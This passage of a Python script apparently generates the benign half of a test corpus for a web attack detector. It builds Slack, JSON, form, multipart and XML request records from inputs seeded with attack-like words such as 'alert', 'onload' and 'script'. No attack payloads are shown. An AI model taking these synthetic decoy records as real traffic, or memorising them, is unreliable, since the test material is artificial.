    "theme=dark", "lang=en-US", "tz=Europe%2FBerlin", "last_search=php%20developer", "_ga=GA1.2.1234567890.1719000000",
    "prefs=%7B%22density%22%3A%22compact%22%7D", "last_search=script%20writer", "sidebar=collapsed",
    "last_search=window%20cleaning", "ab_test=variant_b", "last_search=cookie%20policy", "recent=alert%2Conload",
]
UPLOADS = [
    "Q3 report (final).pdf", "résumé_2024.docx", "scan 12.03.2024.jpg", "IMG_2041.HEIC", "script-notes.txt",
    "php-cheatsheet.pdf", "alert-thresholds.xlsx", "onboarding & setup.md", "avatar.png", "team photo #2.jpg",
    "style-guide-v3.pdf", "import_template.csv", "object-model.drawio", "meeting-notes_2024-06-30.txt",
    "data.json", "logo.svg", "index.html.pdf", "invoice-0042.pdf", "screen recording.mov", "config-backup.zip",
]
PATHS = [
    "/api/users/42", "/api/users/1337", "/api/users/ann.lee", "/api/users/ann.lee%40example.org",
    "/api/teams/eng/members", "/api/users/42/avatar", "/api/users/42/sessions", "/api/search/php-developer",
    "/api/docs/javascript-style-guide", "/api/tags/alerting", "/api/users/jos%C3%A9.garc%C3%ADa",
    "/api/projects/window-frames", "/api/users?page=3&per_page=50", "/api/users/42?fields=name,email,location",
    "/api/articles/2024/06/onload-performance", "/api/users/o%27brien", "/api/files/Q3%20report.pdf",
    "/api/reports/weekly?from=2024-06-01&to=2024-06-30", "/api/locations/lisbon", "/api/templates/welcome-email",
]


class _Benign:
    def __init__(self) -> None:
        self.rng = random.Random(8108)
        self.n = 0
        self.b = _Builder()
        self.b.rng = random.Random(18108)

    def rec(self, kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        self.n += 1
        return {**req, "id": f"{NAME}-{kind}-{self.n:04d}", "category": "benign", "placement": placement}

    def slack(self, text: str) -> dict[str, Any]:
        epoch = 1719000000 + self.n
        event = {"type": "message", "user": "U0" + self.b.token(8).upper(), "text": slack_escape(text),
                 "ts": f"{epoch}.{self.n:06d}", "channel": "C0" + self.b.token(8).upper(), "event_ts": f"{epoch}.1"}
        env = {"token": "verification-token", "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2", "event": event,
               "type": "event_callback", "event_id": "Ev0" + self.b.token(9).upper(), "event_time": epoch}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(env, ensure_ascii=False),
                "headers": {"User-Agent": SLACK_UA, "Accept": "*/*", "Content-Type": "application/json",
                            "X-Slack-Request-Timestamp": str(epoch), "X-Slack-Signature": "v0=" + "0" * 64}}

    def json_req(self, uri: str, doc: dict[str, Any], method: str = "POST") -> dict[str, Any]:
        return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
                "headers": {**self.b.browser(), "Content-Type": "application/json"}}

    def form_req(self, uri: str, fields: list[tuple[str, str]]) -> dict[str, Any]:
        return {"method": "POST", "uri": uri, "body": urllib.parse.urlencode(fields, quote_via=urllib.parse.quote),
                "headers": {**self.b.browser("text/html,application/xhtml+xml,*/*;q=0.8", "navigate"),
                            "Content-Type": "application/x-www-form-urlencoded"}}

    def get(self, uri: str, **extra: str) -> dict[str, Any]:
        h = self.b.browser()
        for k, v in extra.items():
            h[k.replace("_", "-")] = v
        return {"method": "GET", "uri": uri, "body": "", "headers": h}

    def all(self) -> Iterator[dict[str, Any]]:
        q = urllib.parse.quote
        for i, text in enumerate(CHAT):
            yield self.rec("slack", "json", self.slack(text))
            yield self.rec("bio", "json", self.json_req("/api/users", {"name": NAMES[i % len(NAMES)][0],
                                                                        "bio": text}))
            if i % 3 == 0:
                yield self.rec("settings", "form", self.form_req("/me/settings", [
                    ("csrf_token", self.b.token()), ("status_text", text), ("notify", "1")]))
        for i, bio in enumerate(BIOS):
            doc = {"name": NAMES[i % len(NAMES)][0], "email": f"user{i}@example.org", "bio": bio}
            yield self.rec("bio", "json", self.json_req("/api/users/42" if i % 2 else "/api/users", doc,
                                                        "PATCH" if i % 2 else "POST"))
        for i, term in enumerate(SEARCHES):
            yield self.rec("search", "form", self.form_req("/admin/users/search",
                                                           [("csrf_token", self.b.token()), ("q", term)]))
            yield self.rec("query", "query", self.get(f"/api/users?q={q(term, safe='')}&page={1 + i % 4}"))
            if i % 2 == 0:
                yield self.rec("rs-search", "rs-query", {"method": "GET", "uri": f"/search?q={q(term, safe='')}",
                                                         "body": "", "headers": self.b.browser("text/html")})
        for i, (name, dept) in enumerate(NAMES):
            doc = {"name": name, "email": f"person{i}@example.org", "department": dept,
                   "title": ["Engineer", "Manager", "Script supervisor", "Alert analyst", "Designer"][i % 5]}
            yield self.rec("name", "json", self.json_req("/api/users", doc))
            yield self.rec("name", "query", self.get(f"/api/users?name={q(name, safe='')}&page=1"))
            yield self.rec("name", "form", self.form_req("/admin/users/search",
                                                         [("csrf_token", self.b.token()), ("name", name)]))
        for i, addr in enumerate(ADDRESSES):
            yield self.rec("address", "json", self.json_req("/api/users/42", {"location": addr}, "PATCH"))
            yield self.rec("address", "form", self.form_req("/me/settings", [
                ("csrf_token", self.b.token()), ("timezone", "Europe/Lisbon"), ("address", addr)]))
            yield self.rec("address", "query", self.get(f"/api/users?location={q(addr, safe='')}&page={i % 3 + 1}"))
        for url in URLS:
            yield self.rec("url", "json", self.json_req("/api/users", {"name": "Ann Lee", "website": url,
                                                                       "avatar_url": url}))
            yield self.rec("url", "query", self.get(f"/api/users?q=ann&ref={q(url, safe='')}"))
            yield self.rec("url", "form", self.form_req("/me/settings", [("csrf_token", self.b.token()),
                                                                         ("website", url)]))
            yield self.rec("url", "header:Referer", self.get("/api/users?page=1", Referer=url))
        for path in PATHS:
            yield self.rec("path", "path", self.get(path))
        for ua in CLIENT_UAS:
            yield self.rec("header", "header:User-Agent", self.get("/api/users?page=2", User_Agent=ua))
        for ref in REFERERS:
            yield self.rec("header", "header:Referer", self.get("/api/users/42", Referer=ref))
        for i, c in enumerate(COOKIES):
            h = self.b.browser()
            h["Cookie"] += "; " + c
            yield self.rec("cookie", "cookie", {"method": "GET", "uri": f"/api/users?page={i % 3 + 1}", "body": "",
                                                "headers": h})
        for i, fn in enumerate(UPLOADS):
            body, ctype = self.b.multipart([("caption", CHAT[i * 3 % len(CHAT)])], fn, "file contents here")
            yield self.rec("upload", "multipart-filename", {
                "method": "POST", "uri": "/api/users/42/avatar", "body": body,
                "headers": {**self.b.browser(), "Content-Type": ctype}})
        for i, bio in enumerate(BIOS):
            name = xml_escape(NAMES[i % len(NAMES)][0])
            body = (f'<?xml version="1.0" encoding="UTF-8"?>\n<user><name>{name}</name>'
                    f"<bio>{xml_escape(bio)}</bio></user>")
            yield self.rec("xml", "xml", {"method": "POST", "uri": "/api/users", "body": body,
                                          "headers": {**self.b.browser(), "Content-Type": "application/xml"}})
        for i, text in enumerate(CHAT[::4]):
            yield self.rec("rs-form", "rs-form", {
                "method": "POST", "uri": RS_PATHS[i % len(RS_PATHS)],
                "body": urllib.parse.urlencode([("comment", text), ("id", str(i))]),
                "headers": {**self.b.browser("text/html"), "Content-Type": "application/x-www-form-urlencoded"}})


def benign() -> Iterator[dict[str, Any]]:
    yield from _Benign().all()


if __name__ == "__main__":
    print_records(attacks(), benign())
